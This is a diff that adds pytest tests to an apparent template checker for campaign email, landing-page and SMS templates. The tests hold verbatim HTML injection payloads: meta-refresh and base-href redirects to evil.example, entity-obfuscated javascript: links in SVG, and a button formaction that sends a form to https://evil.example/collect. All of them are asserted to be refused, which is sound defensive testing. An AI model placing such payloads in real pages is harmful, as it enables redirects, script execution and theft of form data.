@@ -320,6 +320,51 @@ def test_scripts_handlers_frames_and_forms_are_refused_in_email_html(html: str, 
     assert problems[0].startswith("email.html")
 
 
+@pytest.mark.parametrize(
+    ("html", "problem"),
+    [
+        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta http-equiv=refresh>"),
+        ("<META HTTP-EQUIV=Refresh CONTENT='0; URL=https://evil.example'>", "<meta http-equiv=refresh>"),
+        ('<meta  http-equiv = " REFRESH\t" content="5">', "<meta http-equiv=refresh>"),
+        ('<meta http-equiv="&#82;efresh" content="0;url=javascript:alert(1)">', "<meta http-equiv=refresh>"),
+        ('<base href="https://evil.example/">', "<base> is not allowed"),
+        ('<BASE target="_top">', "<base> is not allowed"),
+        (
+            '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>go</text></a></svg>',
+            "<animate attributename=href>",
+        ),
+        (
+            '<svg><a><set attributeName=" xlink:HREF" to="https://evil.example"/><text>go</text></a></svg>',
+            "<set attributename=xlink:href>",
+        ),
+        ('<svg><a xlink:href="javascript:alert(1)"><text>go</text></a></svg>', "<a xlink:href>: script links"),
+        ('<svg><a XLINK:HREF=" &#x6A;avascript:alert(1)"><text>go</text></a></svg>', "<a xlink:href>: script links"),
+        ('<button formaction="javascript:alert(1)">Go</button>', "<button formaction>"),
+        ('<button formaction="https://evil.example/collect">Send</button>', "<button formaction>"),
+        ('<input form="forward" name="friend_email" value="spam@example.com">', "<input form>"),
+        ("{{ ('<meta http-equiv=refresh content=0;url=' ~ brand_name ~ '>')|safe }}", "in what it renders: <meta"),
+    ],
+)
+def test_redirects_base_urls_svg_link_animations_and_form_hijacks_are_refused(html: str, problem: str) -> None:
+    # On the landing page they would act on our own site, beside the send-to-friend form.
+    for name, good in (("landing.html", "<h1>{{ offer_title }}</h1>"), ("email.html", GOOD_HTML)):
+        problems = checker().check(name, good + "\n" + html)
+        assert len(problems) == 1 and problem in problems[0], problems
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
+        '<meta name="viewport" content="width=device-width">',
+        '<svg><animate attributeName="opacity" values="0;1" dur="1s"/></svg>',
+        '<svg><a href="https://example.com"><text>go</text></a></svg>',
+    ],
+)
+def test_ordinary_head_and_svg_markup_is_fine(html: str) -> None:
+    assert checker().check("landing.html", "<h1>{{ offer_title }}</h1>" + html) == []
+
+
 def test_html_in_a_comment_of_the_template_is_not_html() -> None:
     assert checker().check("email.html", GOOD_HTML + "{# <script>x</script> #}") == []
 
@@ -395,10 +440,36 @@ def test_sms_needs_the_brand_and_a_way_to_stop_where_the_server_texts() -> None:
     assert us.check("sms.txt", "{{ brand_name }}: {{ link }} Opt out: {{ unsubscribe_link }}") == []
     assert us.check("sms.txt", "{{ offer_title }} {{ link }} reply stop") == [
         "sms.txt lacks what the campaign's us policy requires: the sender's identity, the brand name "
-        '({{ brand_name }}); a way to opt out ({{ unsubscribe_link }} or the word "STOP")'
+        '({{ brand_name }}); a way to opt out ({{ unsubscribe_link }} or the words "Reply STOP" or "Text STOP")'
     ]
     # eu-strict never texts a friend from the server: the text is the consumer's own to share.
     assert checker(BUILT_IN["eu-strict"]).check("sms.txt", "{{ offer_title }} {{ link }}") == []
+
+
+@pytest.mark.parametrize(
+    "wording",
+    ["Reply STOP to opt out", "Reply STOP to cancel.", "Text STOP to 12345 to stop these texts", "Reply\nSTOP to end"],
+)
+def test_the_carriers_opt_out_wording_counts(wording: str) -> None:
+    assert checker().check("sms.txt", "{{ brand_name }}: {{ offer_title }} {{ link }} " + wording) == []
+
+
+@pytest.mark.parametrize(
+    "wording",
+    ["Don't STOP now!", "STOP", "STOPALL the noise", "Reply stop to opt out", "Reply STOPPED", "Unsubscribe: reply"],
+)
+def test_stop_outside_the_carriers_wording_is_not_a_way_to_opt_out(wording: str) -> None:
+    problems = checker().check("sms.txt", "{{ brand_name }}: {{ offer_title }} {{ link }} " + wording)
+    assert problems == [
+        "sms.txt lacks what the campaign's us policy requires: "
+        'a way to opt out ({{ unsubscribe_link }} or the words "Reply STOP" or "Text STOP")'
+    ]
+
+
+def test_the_default_text_says_reply_stop_to_opt_out() -> None:
+    sms = TemplateRenderer().render_sms(default_templates(), CONTEXT, segment_limit=3)
+    assert "Reply STOP to opt out" in sms
+    assert "Koffie & Co" in sms  # the brand, as the carriers ask
 
 
 def test_an_sms_over_the_campaign_segment_limit_is_refused() -> None:
